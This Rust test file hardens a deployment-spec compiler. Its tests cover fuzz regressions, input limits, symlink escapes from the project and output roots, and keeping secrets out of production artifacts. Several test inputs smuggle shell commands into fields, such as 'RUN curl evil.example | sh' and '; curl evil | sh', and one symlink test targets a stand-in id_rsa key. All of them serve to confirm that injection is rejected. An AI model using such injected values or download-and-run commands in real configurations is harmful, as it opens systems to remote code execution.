//! Hardening: every input the fuzzers found that broke a promise, kept as a regression case
//! (`tests/hardening/<target>/<name>`, run through the same oracles as the fuzz targets:
//! `fuzz/oracles.rs`); the limits; path safety; secrets never reaching production artifacts.
//! See docs/hardening.md.

#[path = "../../fuzz/oracles.rs"]
mod oracles;

use crate::support::*;

/// Every regression input of one target, by file name.
fn cases(target: &str) -> Vec<(String, Vec<u8>)> {
    let dir = repo_root().join("tests/hardening").join(target);
    let mut out: Vec<(String, Vec<u8>)> = std::fs::read_dir(&dir)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| Some((e.file_name().to_string_lossy().into_owned(), std::fs::read(e.path()).ok()?)))
        .collect();
    out.sort();
    out
}

/// Runs `oracle` on each case, reporting every failing case by name.
fn run(target: &str, oracle: fn(&[u8])) {
    let mut failed = Vec::new();
    for (name, data) in cases(target) {
        if std::panic::catch_unwind(|| oracle(&data)).is_err() {
            failed.push(name);
        }
    }
    assert!(failed.is_empty(), "tests/hardening/{target}: {failed:?} fail again");
}

#[test]
fn fuzz_findings_of_the_parser_stay_fixed() {
    run("parse", |data| oracles::parse(&oracles::text(data)));
}

#[test]
fn fuzz_findings_of_the_checker_stay_fixed() {
    run("check", |data| oracles::check(&oracles::text(data), oracles::ALL_FORMATS));
}

#[test]
fn fuzz_findings_of_the_pipeline_stay_fixed() {
    run("pipeline", |data| oracles::pipeline(data, oracles::ALL_FORMATS));
}

// ---------------------------------------------------------------------------------------------
// Limits: each a diagnostic, never a crash or a hang.

fn codes_of(source: &str) -> Vec<&'static str> {
    codes(&compile_source("", source))
}

#[test]
fn a_hundred_thousand_nested_brackets_are_a_diagnostic() {
    let n = 100_000;
    for (field, open, close) in [("x = ", "[", "]"), ("x = ", "f(", ")"), ("", "a {", "}"), ("x = ", "f(a = [", "])")] {
        let source = format!("service web {{\n  {field}{}{}\n}}\n", open.repeat(n), close.repeat(n));
        let got = codes_of(&source);
        assert!(got.contains(&"S0005"), "{open}: {got:?}");
        oracles::parse(&source);
    }
    // Unclosed, too: the parser stops at the limit instead of recursing to the end.
    assert!(codes_of(&format!("service web {{ x = {}", "[".repeat(n))).contains(&"S0005"));
}

#[test]
fn lists_blocks_and_calls_hold_at_most_ten_thousand_items() {
    let max = sight::limits::MAX_ITEMS;
    let list = |n: usize| {
        format!("service web {{\n  image = \"nginx:1.27\"\n  command = [{}]\n}}\n", vec!["\"x\""; n].join(", "))
    };
    assert!(!codes_of(&list(max)).contains(&"S0009"));
    assert_eq!(codes_of(&list(max + 1)), vec!["S0009"]);
    let block = format!(
        "service web {{\n  image = \"nginx:1.27\"\n  env {{ {} }}\n}}\n",
        (0..=max).map(|i| format!("V{i} = \"x\"")).collect::<Vec<_>>().join("\n")
    );
    assert!(codes_of(&block).contains(&"S0009"));
    let call = format!(
        "service web {{\n  image = \"nginx:1.27\"\n  health = http({})\n}}\n",
        vec!["\"/\""; max + 1].join(", ")
    );
    assert!(codes_of(&call).contains(&"S0009"));
    let after = format!("pipeline p {{ step a = run(web, \"x\") after [{}] }}\n", vec!["b"; max + 1].join(", "));
    assert!(codes_of(&after).contains(&"S0009"));
}

#[test]
fn a_file_over_ten_megabytes_is_not_parsed() {
    let big = format!("service web {{ image = \"nginx:1.27\" }}\n{}", "#\n".repeat(sight::limits::MAX_FILE_BYTES / 2));
    let started = std::time::Instant::now();
    let compiled = sight::project::compile(&sight::project::ProjectInput {
        sources: vec![("big.sight".into(), big), ("preamble.sight".into(), PREAMBLE.into())],
        ..Default::default()
    });
    assert_eq!(codes(&compiled), vec!["S0008"], "{}", human(&compiled));
    assert!(started.elapsed().as_secs() < 10);
    // The CLI reads no more than the limit and one byte.
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let path = dir.path().join("big.sight");
    let file = std::fs::File::create(&path).unwrap_or_else(|e| panic!("{e}"));
    file.set_len(64 << 20).unwrap_or_else(|e| panic!("{e}"));
    let read = sight::limits::read_capped(&path).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(read.len(), sight::limits::MAX_FILE_BYTES + 1);
}

#[test]
fn names_are_at_most_forty_nine_characters() {
    let name = |n: usize| format!("service {} {{ image = \"nginx:1.27\" }}\n", "a".repeat(n));
    assert!(!codes_of(&name(49)).contains(&"S0106"));
    assert!(codes_of(&name(50)).contains(&"S0106"));
}

#[test]
fn numbers_that_overflow_are_diagnostics() {
    for literal in [
        "9223372036854775808",
        "99999999999999999999999999",
        "18446744073709551616ms",
        "213503982334602d",
        "17179869184Ti",
        "0.0000001s",
        "1844674407370955161.5s",
        &format!("1{}.0", "0".repeat(400)),
        &format!("1{}%", "0".repeat(400)),
    ] {
        let got = codes_of(&format!("service web {{\n  image = \"nginx:1.27\"\n  replicas = {literal}\n}}\n"));
        assert_eq!(got, vec!["S0004"], "{literal}");
    }
    // An alert duration near the largest: S0173, not an overflow while suggesting a fix.
    let alert = "alert a { on = web  when error_rate > 1% for 18446744073709551s  notify = c }\nservice web { image = \"nginx:1.27\"  port = 80  deploy : cloud_run { } }\nchannel c : email { address = \"a@b.c\"  id = \"projects/p/notificationChannels/1\" }\n";
    assert_eq!(codes_of(alert), vec!["S0173"]);
    // The largest values that lex still never overflow later stages.
    for value in ["9223372036854775807", "18446744073709551615ms", "18446744073709551s", "16777215Ti", "100%"] {
        for source in [
            format!("service web {{ image = \"nginx:1.27\"  replicas = {value}  port = {value} }}\n"),
            format!("service web {{ image = \"nginx:1.27\"  port = 80  health = http(\"/\") {{ interval = {value}  timeout = {value}  start_period = {value} }}  deploy : cloud_run {{ memory = {value}  timeout = {value}  cpu = {value} }} }}\n"),
            format!("alert a {{ on = web  when error_rate > {value} for {value}  notify = c  auto_close = {value} }}\nservice web {{ image = \"nginx:1.27\"  port = 80  deploy : cloud_run {{ }} }}\nchannel c : email {{ address = \"a@b.c\"  id = \"projects/p/notificationChannels/1\" }}\n"),
            format!("pipeline p {{ timeout = {value}  step a = run(web, \"x\") {{ timeout = {value} }} }}\nservice web {{ image = \"nginx:1.27\" }}\n"),
        ] {
            oracles::check(&source, oracles::ALL_FORMATS);
            oracles::pipeline(source.as_bytes(), oracles::ALL_FORMATS);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Path safety on disk: symbolic links leaving the project or the output root.

fn write(path: &std::path::Path, text: &str) {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
    }
    std::fs::write(path, text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
}

fn symlink(target: &std::path::Path, link: &std::path::Path) {
    std::os::unix::fs::symlink(target, link).unwrap_or_else(|e| panic!("{}: {e}", link.display()));
}

/// stderr of `sight <args>`, with its exit code.
fn run_sight(args: &[&std::ffi::OsStr]) -> (i32, String) {
    let output = std::process::Command::new(snapbox::cmd::cargo_bin!("sight"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    (output.status.code().unwrap_or(-1), String::from_utf8_lossy(&output.stderr).into_owned())
}

const BUILT_API: &str = "service api {\n  build : python { }\n  port = 8000\n  env { TOKEN = secret.token }\n}\nsecret token { from = secret_manager(\"token\", version = 1) }\n";

#[test]
fn spec_paths_through_symbolic_links_leaving_the_project_are_diagnostics() {
    let outside = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let project = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let root = project.path();
    write(&root.join("sight.toml"), "");
    write(&root.join("app.sight"), &format!("{PREAMBLE}{BUILT_API}"));
    // Clean first: the build context and the secret file are plain folders and files.
    write(&root.join("api/main.py"), "print('hi')\n");
    write(&root.join("secrets/token.txt"), "dev-token\n");
    let (code, stderr) = run_sight(&["check".as_ref(), root.as_os_str()]);
    assert_eq!(code, 0, "{stderr}");

    // The build context becomes a link out of the project.
    std::fs::remove_dir_all(root.join("api")).unwrap_or_else(|e| panic!("{e}"));
    symlink(outside.path(), &root.join("api"));
    let (code, stderr) = run_sight(&["check".as_ref(), root.as_os_str()]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("S0015") && stderr.contains("the build context of `api`"), "{stderr}");
    // Nothing is built (and so nothing is written into the linked folder).
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (code, _) = run_sight(&["build".as_ref(), root.as_os_str(), "--out".as_ref(), out.path().as_os_str()]);
    assert_eq!(code, 1);
    assert_eq!(std::fs::read_dir(outside.path()).map(|d| d.count()).unwrap_or(0), 0);
    std::fs::remove_file(root.join("api")).unwrap_or_else(|e| panic!("{e}"));
    std::fs::create_dir(root.join("api")).unwrap_or_else(|e| panic!("{e}"));

    // The secret file links to a file outside (say, a real credential).
    write(&outside.path().join("id_rsa"), "PRIVATE KEY\n");
    std::fs::remove_file(root.join("secrets/token.txt")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&outside.path().join("id_rsa"), &root.join("secrets/token.txt"));
    let (code, stderr) = run_sight(&["check".as_ref(), root.as_os_str()]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("S0015") && stderr.contains("the file of secret `token`"), "{stderr}");
    std::fs::remove_file(root.join("secrets/token.txt")).unwrap_or_else(|e| panic!("{e}"));

    // A spec file that is a link out of the project, and a stdlib folder that is one: the
    // stdlib is never read (its broken kind would be S0010).
    write(&outside.path().join("more.sight"), "service web { image = \"nginx:1.27\" }\n");
    symlink(&outside.path().join("more.sight"), &root.join("more.sight"));
    write(&outside.path().join("kinds/kinds/store/broken.toml"), "this is not a kind\n");
    symlink(&outside.path().join("kinds"), &root.join("kinds"));
    write(&root.join("sight.toml"), "stdlib = \"kinds\"\n");
    let (code, stderr) = run_sight(&["check".as_ref(), root.as_os_str()]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("`more.sight` (the spec file)"), "{stderr}");
    assert!(stderr.contains("`kinds` (the stdlib folder)"), "{stderr}");
    assert!(!stderr.contains("S0010"), "the linked stdlib was read:\n{stderr}");
}

/// A project that builds, written into `root`.
fn buildable(root: &std::path::Path) {
    write(&root.join("sight.toml"), "[output]\ncompose = \"deploy/compose\"\n");
    write(&root.join("app.sight"), &format!("{PREAMBLE}service web {{ image = \"nginx:1.27\"  port = 80 }}\n"));
}

fn files_under(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = entry.path();
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(dir).unwrap_or(&path).display().to_string());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn the_writer_never_follows_a_symbolic_link_out_of_the_output_root() {
    let project = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    buildable(project.path());
    let build = |out: &std::path::Path| {
        run_sight(&["build".as_ref(), project.path().as_os_str(), "--out".as_ref(), out.as_os_str()])
    };

    // A folder of the output root links out of it: nothing at all is written.
    let outside = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    symlink(outside.path(), &out.path().join("deploy"));
    let (code, stderr) = build(out.path());
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("symbolic link that leaves the output root"), "{stderr}");
    assert!(files_under(outside.path()).is_empty());
    assert_eq!(files_under(out.path()), vec!["deploy".to_string()], "a partial write");
    // `--check` does not read through it either.
    let (code, _) = run_sight(&[
        "build".as_ref(),
        project.path().as_os_str(),
        "--out".as_ref(),
        out.path().as_os_str(),
        "--check".as_ref(),
    ]);
    assert_eq!(code, 2);

    // A generated file that is a link to a file outside: neither read nor replaced.
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    write(&outside.path().join("precious.yml"), "# Code generated by sight from x; DO NOT EDIT.\nprecious\n");
    std::fs::create_dir_all(out.path().join("deploy/compose")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&outside.path().join("precious.yml"), &out.path().join("deploy/compose/docker-compose.yml"));
    let (code, stderr) = build(out.path());
    assert_eq!(code, 2, "{stderr}");
    let precious = std::fs::read_to_string(outside.path().join("precious.yml")).unwrap_or_default();
    assert!(precious.ends_with("precious\n"));

    // A link inside the output root that stays inside it is fine.
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::create_dir(out.path().join("real")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&out.path().join("real"), &out.path().join("deploy"));
    let (code, stderr) = build(out.path());
    assert_eq!(code, 0, "{stderr}");

    // A stale entry of `.sight-generated` reached through a link out of the root is never
    // removed, even when the file there carries sight's header.
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (code, stderr) = build(out.path());
    assert_eq!(code, 0, "{stderr}");
    write(&outside.path().join("old/x.yaml"), "# Code generated by sight from x; DO NOT EDIT.\n");
    symlink(&outside.path().join("old"), &out.path().join("old"));
    let listed = std::fs::read_to_string(out.path().join(".sight-generated")).unwrap_or_default();
    write(&out.path().join(".sight-generated"), &format!("{listed}old/x.yaml\n../escape.yaml\n"));
    let (code, stderr) = build(out.path());
    assert_eq!(code, 0, "{stderr}");
    assert!(outside.path().join("old/x.yaml").exists(), "removed through a link");
}

#[test]
fn a_planted_link_at_the_temporary_name_is_not_followed() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let outside = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let victim = outside.path().join("victim");
    write(&victim, "untouched\n");
    let target = dir.path().join("a.sight");
    symlink(&victim, &dir.path().join(format!(".a.sight.sight-tmp-{}", std::process::id())));
    sight::write::write_atomically(&target, b"written\n").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap_or_default(), "untouched\n");
    assert_eq!(std::fs::read_to_string(&target).unwrap_or_default(), "written\n");
}

// ---------------------------------------------------------------------------------------------
// Secrets: no secret value reaches a production artifact; dev-only values reach only the
// development Compose file.

#[test]
fn no_secret_value_reaches_an_artifact_and_dev_values_stay_in_development() {
    let project = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let out = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let root = project.path();
    let example = repo_root().join("examples/sight-platform");
    for entry in std::fs::read_dir(&example).into_iter().flatten().flatten() {
        if entry.path().is_file() {
            std::fs::copy(entry.path(), root.join(entry.file_name())).unwrap_or_else(|e| panic!("{e}"));
        }
    }
    // Values only the development and the test environments may see.
    let platform = std::fs::read_to_string(root.join("platform.sight")).unwrap_or_default();
    let platform = platform.replacen("  dev {\n", "  dev {\n    env { DEV_ONLY = \"dev-only-marker\" }\n", 1).replacen(
        "  port = 8000\n",
        "  port = 8000\n  test { env { TEST_ONLY = \"test-only-marker\" } }\n",
        1,
    );
    assert!(platform.contains("dev-only-marker") && platform.contains("test-only-marker"));
    write(&root.join("platform.sight"), &platform);

    // Every secret's development file holds a marker, and so does the environment of the
    // build, under each secret's name and each variable that reads one.
    let compiled = compile_dir(root);
    assert!(!compiled.has_errors(), "{}", human(&compiled));
    let model = compiled.model.unwrap_or_else(|| panic!("no model"));
    let mut markers = Vec::new();
    let mut command = std::process::Command::new(snapbox::cmd::cargo_bin!("sight"));
    for secret in model.secrets.values() {
        let marker = format!("file-marker-{}-3f9a", secret.name);
        write(&root.join(&secret.file), &format!("{marker}\n"));
        markers.push(marker);
        let marker = format!("env-marker-{}-3f9a", secret.name);
        command.env(secret.name.to_ascii_uppercase(), &marker);
        markers.push(marker);
    }
    for service in model.services.values() {
        for (name, value) in service.config(sight::model::Env::Prod).env.iter() {
            if matches!(value, sight::model::EnvValue::Secret(_)) {
                let marker = format!("env-marker-{name}-3f9a");
                command.env(name, &marker);
                markers.push(marker);
            }
        }
    }
    write(&root.join(".env"), "POSTGRES_PASSWORD=dotenv-marker-3f9a\n");
    markers.push("dotenv-marker-3f9a".into());
    assert!(markers.len() >= 6, "{markers:?}");

    let output = command
        .arg("build")
        .arg(root)
        .arg("--out")
        .arg(out.path())
        .env("NO_COLOR", "1")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));

    let artifacts = files_under(out.path());
    assert!(artifacts.len() > 5, "{artifacts:?}");
    let mut dev_only_in = Vec::new();
    let mut test_only_in = Vec::new();
    for path in &artifacts {
        let text = std::fs::read_to_string(out.path().join(path)).unwrap_or_default();
        for marker in &markers {
            assert!(!text.contains(marker.as_str()), "{path} holds the secret value `{marker}`");
        }
        if text.contains("dev-only-marker") {
            dev_only_in.push(path.as_str());
        }
        if text.contains("test-only-marker") {
            test_only_in.push(path.as_str());
        }
    }
    assert_eq!(dev_only_in, vec!["docker-compose.yml"], "a development value left development");
    assert_eq!(test_only_in, vec!["docker-compose.test.yml"], "a test value left the test file");
}

// ---------------------------------------------------------------------------------------------
// Values spliced into text artifacts stay plain.

#[test]
fn a_line_break_cannot_start_a_dockerfile_instruction() {
    let source = "service api {\n  build : python { version = \"3.12\\nRUN curl evil.example | sh\"  requirements = \"r.txt\\nRUN id\"  runtime_packages = [\"libpq5=15.*\\nRUN whoami\"]  copy = [\"app/\\nRUN id\"] }\n  port = 8000\n}\n";
    let compiled = compile_source("", source);
    let messages: Vec<String> = compiled.diagnostics.iter().map(|d| format!("{} {}", d.code.code, d.message)).collect();
    for field in ["version", "requirements", "runtime_packages", "copy"] {
        assert!(
            messages.iter().any(|m| m.starts_with("S0112") && m.contains(&format!("`{field}`"))),
            "{field}: {messages:?}"
        );
    }
    assert!(compiled.model.is_none());
}

#[test]
fn google_cloud_settings_have_the_form_google_cloud_gives_them() {
    for (field, value) in [
        ("project", "shop prod"),
        ("project", "Shop-Prod"),
        ("region", "europe-west1; curl evil | sh"),
        ("registry", "europe-west1-docker.pkg.dev/shop-prod/app\\nRUN id"),
        ("registry", "gcr.io/Shop"),
    ] {
        let mut settings = vec![("project", "shop-prod"), ("region", "europe-west1"), ("registry", "gcr.io/shop-prod")];
        for s in &mut settings {
            if s.0 == field {
                s.1 = value;
            }
        }
        let gcp: Vec<String> = settings.iter().map(|(k, v)| format!("{k} = \"{v}\"")).collect();
        let source =
            format!("project shop {{\n  gcp {{ {} }}\n}}\nservice web {{ image = \"nginx:1.27\" }}\n", gcp.join("  "));
        let compiled = compile_source("", &source);
        assert_eq!(codes(&compiled), vec!["S0112"], "{field} = {value:?}\n{}", human(&compiled));
    }
}
